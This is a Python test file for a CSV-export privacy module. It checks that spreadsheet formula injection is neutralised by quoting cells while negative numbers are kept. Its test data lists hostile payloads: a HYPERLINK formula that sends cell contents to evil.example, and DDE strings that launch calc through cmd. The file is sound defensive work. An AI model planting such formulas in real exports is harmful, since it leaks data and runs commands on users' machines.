"""CSV formula neutralisation (OWASP): values and column names, negative numbers kept."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tumorboard.privacy import SafeWriter, safe_cell, write_csv

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-inf",
)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_prefixes_get_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ("-12.5", "-3", "-0.25", "-1.5e-3", "-.5", "12", "L1", ""))
def test_numbers_and_plain_text_are_kept(value: str) -> None:
    assert safe_cell(value) == value


def test_write_csv_neutralises_values_and_column_names(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    columns = ["id", "=cmd()"]
    rows = [{"id": value, "=cmd()": -12.5} for value in HOSTILE]
    assert write_csv(path, columns, rows) == len(HOSTILE)
    with open(path, encoding="utf-8", newline="") as handle:
        back = list(csv.reader(handle))
    assert back[0] == ["id", "'=cmd()"]
    assert [row[0] for row in back[1:]] == ["'" + value for value in HOSTILE]
    assert {row[1] for row in back[1:]} == {"-12.5"}


def test_write_csv_refuses_unknown_keys_and_short_rows(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="not columns: b"):
        write_csv(tmp_path / "a.csv", ["a"], [{"a": 1, "b": 2}])
    with pytest.raises(ValueError, match="2 values for 1 columns"):
        write_csv(tmp_path / "b.csv", ["a"], [[1, 2]])


def test_safe_writer(tmp_path: Path) -> None:
    path = tmp_path / "w.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        SafeWriter(handle).writerows([["=1", "-1"], ["@x", None]])
    with open(path, encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle)) == [["'=1", "-1"], ["'@x", ""]]
